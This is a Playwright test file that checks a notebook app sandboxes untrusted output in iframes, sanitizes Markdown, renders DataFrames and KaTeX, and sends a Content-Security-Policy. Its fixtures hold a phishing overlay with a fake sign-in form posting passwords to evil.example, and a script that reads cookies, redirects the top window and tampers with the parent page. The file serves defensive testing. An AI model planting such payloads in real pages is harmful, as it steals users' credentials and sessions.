/**
 * End to end in Chromium: active content in a notebook cannot escape its output. A notebook
 * saved by another project member carries a phishing overlay (`position:fixed` over the whole
 * window, a fake sign-in form, a script reaching for cookies, the top window, the API and the
 * app's DOM): it stays inside its sandboxed frame, its script runs there and reaches nothing.
 * The same overlay in a Markdown cell is clipped to the cell. JavaScript outputs run in their
 * frame; a DataFrame's frame is as tall as its table; Markdown math and text/latex render with
 * KaTeX served by Lattice; pages send their Content-Security-Policy and nothing in the app
 * violates it while a notebook is opened and run.
 */
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import type { ConsoleMessage, Page } from 'playwright-core';
import type { TCell } from '../../common/nbformat/schema';
import { startNotebookSuite, type TNotebookSuite } from '../helpers/notebook-pages';
import { createAccount, signIn, webOk, type TWebSession } from '../helpers/web-session';

const ADMIN = { email: 'admin@active.test', password: 'e2e-active-admin-password' };
const MEMBER = { email: 'mallory@active.test', name: 'Mallory', password: 'e2e-active-member-password' };

let suite: TNotebookSuite;
let member: TWebSession;

before(async () => {
  suite = await startNotebookSuite({ admin: ADMIN, dataDirPrefix: 'lattice-e2e-active-', project: 'Shared analysis' });
  member = await createAccount(suite.platform.webUrl, (await signIn(suite.platform.webUrl, ADMIN)).cookies, MEMBER);
  const page = await suite.context.newPage();
  assert.equal((await page.request.post(`${suite.projectApi}/members`, { data: { email: MEMBER.email, role: 'editor' } })).status(), 201);
  await page.close();
});

after(async () => {
  await suite?.close();
});

let idCounter = 0;
const cellId = () => `a${String(++idCounter).padStart(7, '0')}`;
const code = (source: string, outputs: unknown[] = []): TCell => ({ id: cellId(), cell_type: 'code', metadata: {}, source, outputs: outputs as never, execution_count: outputs.length ? 1 : null });
const markdown = (source: string): TCell => ({ id: cellId(), cell_type: 'markdown', metadata: {}, source });
const display = (data: Record<string, string>) => ({ output_type: 'display_data', data, metadata: {} });

/** A notebook the other member saves through the API, outputs and all. */
async function memberNotebook(name: string, cells: TCell[]): Promise<string> {
  const api = `/api/projects/${suite.projectId}/notebooks`;
  const created = await webOk(suite.platform.webUrl, member.cookies, 'POST', api, { name });
  const content = { nbformat: 4, nbformat_minor: 5, metadata: { kernelspec: { name: 'python3', display_name: 'Python 3', language: 'python' } }, cells };
  await webOk(suite.platform.webUrl, member.cookies, 'PUT', `${api}/${created.id}`, { content, baseVersion: created.version });
  return `${suite.platform.webUrl}/projects/${suite.projectId}/notebooks/${created.id}`;
}

/** Console errors that report a Content-Security-Policy violation. */
const isCspViolation = (m: ConsoleMessage) => m.type() === 'error' && /Content Security Policy/i.test(m.text());

/** Opens a notebook as the admin, with page errors and CSP violations of the app's own page collected. */
async function open(url: string): Promise<{ page: Page; errors: string[]; violations: string[] }> {
  const page = await suite.context.newPage();
  const errors: string[] = [];
  const violations: string[] = [];
  page.on('pageerror', (e) => errors.push(e.message));
  page.on('console', (m) => {
    if (isCspViolation(m) && !m.location().url.includes('/frames/')) violations.push(m.text());
  });
  await page.goto(url);
  await page.locator('[data-testid=cell]').first().waitFor();
  return { page, errors, violations };
}

const frames = (page: Page) => page.locator('iframe[data-testid=output-frame]');
/** A frame's height once it has sized itself to its content (and stayed so). */
async function settledHeight(page: Page, index: number): Promise<number> {
  let last = -1;
  for (let i = 0; i < 100; i++) {
    const h = (await frames(page).nth(index).boundingBox())?.height ?? 0;
    if (h > 0 && h === last) return h;
    last = h;
    await page.waitForTimeout(100);
  }
  assert.fail(`frame ${index} never settled (last height ${last})`);
}

const PHISHING_OVERLAY =
  '<div id="overlay" style="position:fixed;inset:0;z-index:99999;background:white">Session expired, sign in again ' +
  '<form action="https://evil.example/steal" method="post"><input name="password" type="password"><button>Sign in</button></form></div>';

const PHISHING_SCRIPT = `<p id="report">waiting</p><script>
  const seen = {};
  try { seen.cookie = document.cookie; } catch (e) { seen.cookie = 'refused: ' + e.name; }
  try { window.top.location = 'https://evil.example/'; seen.top = 'no error'; } catch (e) { seen.top = 'refused: ' + e.name; }
  try { parent.document.body.innerHTML = 'pwned'; seen.parent = 'no error'; } catch (e) { seen.parent = 'refused: ' + e.name; }
  fetch('/api/me').then((r) => r.text()).then((t) => { seen.fetch = 'got ' + t.slice(0, 80); }, (e) => { seen.fetch = 'refused: ' + e.name; })
    .finally(() => { document.getElementById('report').textContent = JSON.stringify(seen); });
</script>`;

test('a phishing overlay in an HTML output stays inside its frame; its script runs there and reaches nothing', { timeout: 300_000 }, async () => {
  const url = await memberNotebook('Phishing output', [markdown('# Quarterly numbers'), code('show()', [display({ 'text/html': PHISHING_OVERLAY + PHISHING_SCRIPT, 'text/plain': '<HTML>' })]), code('x = 1')]);
  const { page, errors } = await open(url);
  const frame = page.frameLocator('iframe[data-testid=output-frame]');
  // Measure once the header has settled: opening starts no kernel (it starts on the first run).
  await page.locator('[data-testid=kernel-status][data-status=no-kernel]').waitFor({ timeout: 60_000 });

  // The script ran inside the frame, and everything it tried was refused.
  const report = frame.locator('#report');
  await report.filter({ hasNotText: 'waiting' }).waitFor({ timeout: 30_000 });
  const seen = JSON.parse((await report.textContent())!) as Record<string, string>;
  assert.ok(seen.cookie === '' || seen.cookie!.startsWith('refused'), `cookie seen: ${seen.cookie}`);
  assert.doesNotMatch(seen.cookie!, /next-auth/);
  assert.match(seen.parent!, /^refused: SecurityError/);
  assert.match(seen.fetch!, /^refused: TypeError/, 'the frame has no network beyond Lattice, and no session');
  await page.waitForTimeout(500);
  assert.equal(page.url(), url, 'the top page was not navigated');

  // The app is untouched, visible and clickable; the overlay covers only its own frame.
  // (innerText: the page's own script tags carry the notebook's source, 'pwned' included.)
  assert.doesNotMatch(await page.evaluate(() => document.body.innerText), /pwned/);
  assert.equal(await page.locator('[data-testid=cell]').count(), 3);
  await page.locator('header').first().waitFor({ state: 'visible' });
  await page.getByRole('toolbar', { name: 'Notebook' }).getByRole('button').first().click({ trial: true, timeout: 5_000 });
  await page.locator('header a').first().click({ trial: true, timeout: 5_000 });
  const viewport = page.viewportSize()!;
  const hits = await page.evaluate(
    ({ points }) => points.map(([x, y]) => document.elementFromPoint(x!, y!)?.tagName ?? null),
    { points: [[viewport.width / 2, viewport.height / 2], [viewport.width / 2, 10], [10, viewport.height - 10]] },
  );
  assert.ok(!hits.includes('IFRAME'), `the frame is hit outside its own area: ${hits}`);

  // The frame is only as tall as the output's own (in-flow) content: the report line.
  const height = await settledHeight(page, 0);
  const contentHeight = await frame.locator('#output').evaluate((el) => el.getBoundingClientRect().height);
  assert.ok(Math.abs(height - contentHeight) <= 2, `frame ${height}px, its content ${contentHeight}px`);
  assert.ok(height < 80, `frame height ${height}`);
  const frameBox = (await frames(page).first().boundingBox())!;
  const outputs = (await page.locator('[data-testid=cell]').nth(1).locator('[data-testid=cell-outputs]').boundingBox())!;
  assert.ok(frameBox.y >= outputs.y && frameBox.y + frameBox.height <= outputs.y + outputs.height, `frame ${JSON.stringify(frameBox)} outside its cell's outputs ${JSON.stringify(outputs)}`);
  // The overlay exists (it rendered), but only inside the frame's viewport.
  const overlay = await frame.locator('#overlay').boundingBox();
  assert.ok(overlay && Math.abs(overlay.height - frameBox.height) <= 1 && Math.abs(overlay.width - frameBox.width) <= 1, `overlay ${JSON.stringify(overlay)} vs frame ${JSON.stringify(frameBox)}`);
  assert.deepEqual(errors, []);
  await page.close();
});

test('the same overlay in a Markdown cell is clipped to the cell', { timeout: 120_000 }, async () => {
  const url = await memberNotebook('Phishing markdown', [markdown(`Notes\n\n${PHISHING_OVERLAY}`), code('x = 1')]);
  const { page } = await open(url);
  const container = page.locator('[data-testid=cell]').first().locator('.lattice-markdown');
  const overlay = container.locator('#overlay');
  await overlay.waitFor();
  assert.equal(await container.locator('form').count(), 0, 'the fake form is removed by the sanitizer');
  const cell = (await container.boundingBox())!;
  const o = (await overlay.boundingBox())!;
  assert.ok(o.x >= cell.x - 1 && o.y >= cell.y - 1 && o.x + o.width <= cell.x + cell.width + 1 && o.y + o.height <= cell.y + cell.height + 1, `overlay ${JSON.stringify(o)} outside its cell ${JSON.stringify(cell)}`);
  const viewport = page.viewportSize()!;
  const centre = await page.evaluate(([x, y]) => document.elementFromPoint(x!, y!)?.closest('#overlay') !== null, [viewport.width / 2, viewport.height / 2]);
  assert.equal(centre, false, "the overlay does not cover the page's centre");
  await page.getByRole('toolbar', { name: 'Notebook' }).getByRole('button').first().click({ trial: true, timeout: 5_000 });
  await page.close();
});

test('an application/javascript output runs inside its frame, with `element` bound', { timeout: 120_000 }, async () => {
  const js = "element.innerHTML = '<b id=\"js\">drawn by ' + typeof element + '</b>'; try { parent.document.title = 'x'; } catch (e) { element.dataset.parent = e.name; }";
  const url = await memberNotebook('JavaScript output', [code('display(Javascript(...))', [display({ 'application/javascript': js, 'text/plain': '<IPython.core.display.Javascript object>' })])]);
  const { page, errors } = await open(url);
  const frame = page.frameLocator('iframe[data-testid=output-frame]');
  assert.equal(await frame.locator('#js').textContent({ timeout: 30_000 }), 'drawn by object');
  assert.equal(await frame.locator('#output').getAttribute('data-parent'), 'SecurityError');
  assert.notEqual(await page.title(), 'x');
  assert.equal(await page.locator('#js').count(), 0, 'nothing ran in the app page');
  assert.deepEqual(errors, []);
  await page.close();
});

/** The HTML pandas writes for a DataFrame (`df.head(8)._repr_html_()`). */
function dataFrameHtml(rows: number): string {
  const body = Array.from({ length: rows }, (_, i) => `<tr><th>${i}</th><td>${(i * 1.5).toFixed(1)}</td><td>name-${i}</td></tr>`).join('');
  return (
    '<div>\n<style scoped>\n    .dataframe tbody tr th:only-of-type {\n        vertical-align: middle;\n    }\n\n    .dataframe thead th {\n        text-align: right;\n    }\n</style>\n' +
    `<table border="1" class="dataframe">\n  <thead>\n    <tr style="text-align: right;">\n      <th></th>\n      <th>value</th>\n      <th>label</th>\n    </tr>\n  </thead>\n  <tbody>${body}</tbody>\n</table>\n</div>`
  );
}

test('a DataFrame renders in a frame sized to its table, styled like the notebook', { timeout: 120_000 }, async () => {
  const url = await memberNotebook('DataFrames', [
    code('df.head(8)', [{ output_type: 'execute_result', execution_count: 1, data: { 'text/html': dataFrameHtml(8), 'text/plain': 'df' }, metadata: {} }]),
    code('df.head(3)', [{ output_type: 'execute_result', execution_count: 2, data: { 'text/html': dataFrameHtml(3), 'text/plain': 'df' }, metadata: {} }]),
  ]);
  const { page, errors } = await open(url);
  for (const [index, rows] of [[0, 8], [1, 3]] as const) {
    const frame = page.frameLocator('iframe[data-testid=output-frame]').nth(index);
    await frame.locator('table.dataframe').waitFor();
    const height = await settledHeight(page, index);
    const table = await frame.locator('table.dataframe').evaluate((t) => {
      const r = t.getBoundingClientRect();
      const style = getComputedStyle(t.querySelectorAll('tbody tr')[1]!);
      return { bottom: r.bottom + window.scrollY, rows: t.querySelectorAll('tbody tr').length, even: style.backgroundColor, font: getComputedStyle(t).fontFamily };
    });
    assert.equal(table.rows, rows);
    assert.ok(Math.abs(height - table.bottom) <= 3, `frame ${height}px for a table ending at ${table.bottom}px`);
    assert.equal(table.even, 'rgb(245, 245, 245)', 'striped rows as in JupyterLab');
    assert.match(table.font, /system-ui/);
  }
  // Re-rendering the cell (selecting it, editing another cell) neither reloads nor resizes the frame.
  const marker = page.frameLocator('iframe[data-testid=output-frame]').first().locator('#output');
  await marker.evaluate((el) => el.setAttribute('data-still-here', 'yes'));
  await page.locator('[data-testid=cell]').nth(1).click();
  await page.keyboard.press('Enter');
  await page.keyboard.type('# edited');
  await page.keyboard.press('Escape');
  await page.locator('[data-testid=cell]').first().click();
  assert.equal(await marker.getAttribute('data-still-here'), 'yes');
  assert.deepEqual(errors, []);
  await page.close();
});

test('Markdown math and text/latex outputs render with KaTeX, served by Lattice', { timeout: 120_000 }, async () => {
  const url = await memberNotebook('Math', [
    markdown('Area $x^2$ and $$\\int_0^1 f\\,dx$$ for $5 and $10.'),
    code('Math(...)', [display({ 'text/latex': '$$\\frac{1}{2}$$', 'text/plain': '<IPython.core.display.Math object>' })]),
  ]);
  const { page, errors, violations } = await open(url);
  const md = page.locator('[data-testid=cell]').first().locator('.lattice-markdown');
  await md.locator('.katex').first().waitFor();
  assert.equal(await md.locator('.katex').count(), 2);
  assert.equal(await md.locator('.katex-display').count(), 1);
  assert.equal(await md.locator('.katex-display annotation').textContent(), '\\int_0^1 f\\,dx');
  assert.ok((await md.locator('.katex-display .mspace').count()) >= 1, '\\, is a thin space, not eaten');
  assert.match((await md.textContent()) ?? '', /for \$5 and \$10\./);
  const latex = page.locator('[data-testid=cell]').nth(1).locator('.lattice-latex .katex-display');
  await latex.waitFor();
  assert.equal(await latex.locator('.mfrac').count(), 1);
  // KaTeX's stylesheet and fonts come from Lattice.
  const fonts = await page.evaluate(async () => {
    await document.fonts.ready;
    return [...document.fonts].filter((f) => f.family.includes('KaTeX') && f.status === 'loaded').length;
  });
  assert.ok(fonts > 0, 'KaTeX fonts loaded');
  assert.match(await md.locator('.katex').first().evaluate((el) => getComputedStyle(el).fontFamily), /KaTeX_Main/);
  assert.deepEqual(violations, []);
  assert.deepEqual(errors, []);
  await page.close();
});

test('pages send their Content-Security-Policy, and opening and running a notebook violates none of it', { timeout: 300_000 }, async () => {
  const url = await memberNotebook('Run under CSP', [markdown('Math $e^{i\\pi}$'), code('', []), code('from IPython.display import HTML\nHTML("<b id=b>bold</b>")')]);
  const page = await suite.context.newPage();
  const errors: string[] = [];
  const violations: string[] = [];
  page.on('pageerror', (e) => errors.push(e.message));
  page.on('console', (m) => isCspViolation(m) && violations.push(m.text()));
  const response = (await page.goto(url))!;
  const headers = response.headers();
  const gateway = new URL(suite.platform.gatewayUrl);
  const csp = headers['content-security-policy'] ?? '';
  assert.match(csp, /^default-src 'self'; script-src 'self' 'nonce-[A-Za-z0-9+/=]+' 'strict-dynamic'; style-src 'self' 'unsafe-inline'; img-src 'self' data: blob:; font-src 'self' data:; /);
  assert.ok(csp.includes(`connect-src 'self' http://${gateway.host} ws://${gateway.host};`), csp);
  assert.match(csp, /frame-src 'self'; frame-ancestors 'none'; object-src 'none'; base-uri 'self'; form-action 'self'$/);
  assert.equal(headers['x-content-type-options'], 'nosniff');
  assert.equal(headers['referrer-policy'], 'strict-origin-when-cross-origin');
  const nonce = /'nonce-([^']+)'/.exec(csp)![1]!;
  assert.ok((await page.locator(`script[nonce]`).count()) > 0 || (await page.evaluate(() => [...document.scripts].some((s) => s.nonce))), "Next's scripts carry the nonce");
  const second = (await page.request.get(url)).headers()['content-security-policy'] ?? '';
  assert.match(second, /'nonce-/);
  assert.ok(!second.includes(nonce), 'a fresh nonce per response');
  // The output frames keep their own sandboxing policy.
  const frameCsp = (await page.request.get(`${suite.platform.webUrl}/frames/output.html`)).headers()['content-security-policy'] ?? '';
  assert.match(frameCsp, /^sandbox allow-scripts; default-src 'none';/);

  await page.locator('[data-testid=cell]').first().waitFor();
  await page.locator('[data-testid=cell]').nth(1).locator('.cm-content').click();
  await page.keyboard.type('1+1');
  await page.keyboard.press('Shift+Enter');
  await page.locator('[data-testid=cell]').nth(1).locator('[data-output-type=execute_result]', { hasText: '2' }).waitFor({ timeout: 120_000 });
  await page.locator('[data-testid=cell]').nth(2).locator('.cm-content').click();
  await page.keyboard.press('Shift+Enter');
  const bold = page.locator('[data-testid=cell]').nth(2).frameLocator('iframe[data-testid=output-frame]').locator('#b');
  assert.equal(await bold.textContent({ timeout: 60_000 }), 'bold');
  await page.locator('[data-testid=kernel-status][data-status=idle]').waitFor({ timeout: 30_000 });
  await page.waitForTimeout(500);
  assert.deepEqual(violations, []);
  assert.deepEqual(errors, []);
  await page.close();
});
